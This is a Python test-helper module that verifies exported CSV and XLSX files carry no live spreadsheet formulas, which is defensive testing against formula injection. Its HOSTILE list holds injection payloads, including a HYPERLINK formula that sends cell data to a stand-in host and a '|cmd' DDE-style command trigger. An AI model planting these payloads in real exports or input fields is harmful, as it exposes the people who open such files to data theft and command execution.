"""Checks that an exported CSV or XLSX carries no live formula (see :mod:`common.exports`).

Put :data:`HOSTILE` texts into free-text fields (names, addresses, subjects, …), fetch every
export over HTTP and pass the body to :func:`csv_cells` / :func:`xlsx_cells`: they fail on a
formula cell or a text cell that a spreadsheet would read as a formula, and return the text
cells so the test can also see that the hostile text did reach the file (neutralised).
"""

from __future__ import annotations

import csv
import io
import re
from typing import Final

from common.exports import FORMULA_TRIGGERS, safe_text

HOSTILE: Final = (
    '=HYPERLINK("http://x"&A1,"x")',
    "@SUM(1)",
    "-2+3|cmd",
    "+1",
    "\t=1",
    "\r=1",
)
NEUTRALISED: Final = tuple(safe_text(text) for text in HOSTILE)

# A plain number (a negative amount) is data, not a formula, in every spreadsheet program.
_PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")
# OOXML writes control characters as _xHHHH_; openpyxl hands them back escaped, Excel does not.
_OOXML_ESCAPE = re.compile(r"_x([0-9A-Fa-f]{4})_")


def _ooxml_text(text: str) -> str:
    return _OOXML_ESCAPE.sub(lambda m: chr(int(m.group(1), 16)), text)


def _check_text(text: str, where: str) -> None:
    if text.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(text):
        raise AssertionError(f"{where}: {text!r} would be read as a formula")


def csv_cells(body: str) -> list[str]:
    """Every field of a CSV body, after checking that none would start a formula."""
    cells: list[str] = []
    for line, row in enumerate(csv.reader(io.StringIO(body, newline="")), start=1):
        for column, text in enumerate(row, start=1):
            _check_text(text, f"CSV line {line}, field {column}")
            cells.append(text)
    return cells


def xlsx_cells(content: bytes) -> list[str]:
    """Every text cell of an XLSX workbook, after checking that no cell is a formula and no
    text would start one."""
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(content))
    texts: list[str] = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                where = f"{sheet.title}!{cell.coordinate}"
                if cell.data_type == "f":
                    raise AssertionError(f"{where}: formula {cell.value!r}")
                if isinstance(cell.value, str):
                    text = _ooxml_text(cell.value)
                    _check_text(text, where)
                    texts.append(text)
    return texts


def assert_hostile_neutralised(cells: list[str], *expected: str) -> None:
    """Each of ``expected`` (default: every :data:`HOSTILE` text) is a cell of the file,
    neutralised."""
    for text in expected or HOSTILE:
        assert safe_text(text) in cells, f"{safe_text(text)!r} is not a cell of the export"
